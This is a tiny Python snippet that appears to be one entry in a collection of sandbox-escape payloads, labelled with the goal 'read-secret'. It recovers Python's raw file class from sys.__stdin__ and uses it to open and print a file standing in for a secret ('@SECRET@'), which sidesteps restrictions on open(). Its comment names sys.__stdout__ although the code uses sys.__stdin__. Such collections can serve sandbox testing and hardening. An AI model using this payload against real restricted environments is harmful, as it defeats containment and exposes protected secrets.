# technique: sys.__stdout__ holds the stream that the program should not reach
# goal: read-secret
# source: own analysis
import sys
print(type(sys.__stdin__.buffer.raw)('@SECRET@').read())
